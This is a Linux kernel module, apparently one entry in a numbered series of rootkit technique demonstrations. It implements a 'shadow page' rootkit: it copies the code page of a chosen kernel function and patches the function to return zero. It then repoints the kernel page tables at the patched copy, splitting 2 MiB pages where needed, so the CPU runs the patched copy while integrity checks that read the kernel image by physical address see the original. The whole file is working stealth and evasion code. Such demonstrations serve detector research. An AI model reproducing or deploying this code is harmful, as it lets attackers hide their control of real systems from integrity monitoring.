// SPDX-License-Identifier: GPL-2.0
/*
 * 21. A shadow page: the kernel's page tables point the page that holds an
 * ordinary function's code at a patched copy of that page. The kernel image
 * in memory is left as the build made it, so every check that reads the
 * image by its physical address sees nothing; the CPU runs the copy. Where
 * the function lies in a 2 MiB page, the module splits that page into 4 KiB
 * pages first, as a rootkit must, and points one of them at the copy.
 */
#include <linux/module.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/smp.h>
#include <linux/io.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include "rk_common.h"
#include "rk_common_show.h"

static struct page *copy;	/* the patched copy of the function's page */
static unsigned long table;	/* the 4 KiB table that replaced a 2 MiB leaf */
static pte_t *pte;		/* the entry written: a 4 KiB leaf ... */
static pmd_t *pmd;		/* ... or the 2 MiB leaf that was split */
static unsigned long saved;	/* that entry before */

static void flush_one(void *unused)
{
	__flush_tlb_all();
}

static int __init rk_init(void)
{
	/* xor eax, eax; ret: the show function shows nothing. */
	static const u8 ret0[3] = { 0x31, 0xc0, 0xc3 };
	unsigned long fn = rk_lookup(target), off;
	unsigned int level, i;
	pgprot_t prot;
	u8 *c;

	if (!fn)
		return -ENOENT;
	off = (fn & ~PAGE_MASK) + rk_body_offset((u8 *)fn);
	if (off + sizeof(ret0) > PAGE_SIZE)
		return -ERANGE;
	pte = lookup_address(fn, &level);
	if (!pte || !pte_present(*pte) ||
	    (level != PG_LEVEL_4K && level != PG_LEVEL_2M))
		return -EFAULT;
	copy = alloc_page(GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	c = page_address(copy);
	memcpy(c, (void *)(fn & PAGE_MASK), PAGE_SIZE);
	memcpy(c + off, ret0, sizeof(ret0));

	if (level == PG_LEVEL_4K) {
		saved = pte_val(*pte);
		set_pte(pte, pfn_pte(page_to_pfn(copy), pte_pgprot(*pte)));
	} else {
		pte_t *t;

		table = get_zeroed_page(GFP_KERNEL);
		if (!table) {
			__free_page(copy);
			return -ENOMEM;
		}
		t = (pte_t *)table;
		pmd = (pmd_t *)pte;
		pte = NULL;
		saved = pmd_val(*pmd);
		/* The 2 MiB leaf's permissions, as 4 KiB entries (no PSE). */
		prot = pgprot_large_2_4k(pmd_pgprot(*pmd));
		for (i = 0; i < PTRS_PER_PTE; i++)
			t[i] = pfn_pte(pmd_pfn(*pmd) + i, prot);
		t[(fn >> PAGE_SHIFT) & (PTRS_PER_PTE - 1)] =
			pfn_pte(page_to_pfn(copy), prot);
		set_pmd(pmd, __pmd(__pa(table) | _KERNPG_TABLE));
	}
	on_each_cpu(flush_one, NULL, 1);
	pr_info("rk_shadow: the page of %s (%s page) runs a copy at %#llx\n",
		target, level == PG_LEVEL_4K ? "a 4 KiB" : "a split 2 MiB",
		(unsigned long long)page_to_phys(copy));
	return 0;
}

static void __exit rk_exit(void)
{
	if (pte)
		set_pte(pte, __pte(saved));
	else
		set_pmd(pmd, __pmd(saved));
	on_each_cpu(flush_one, NULL, 1);
	if (table)
		free_page(table);
	__free_page(copy);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
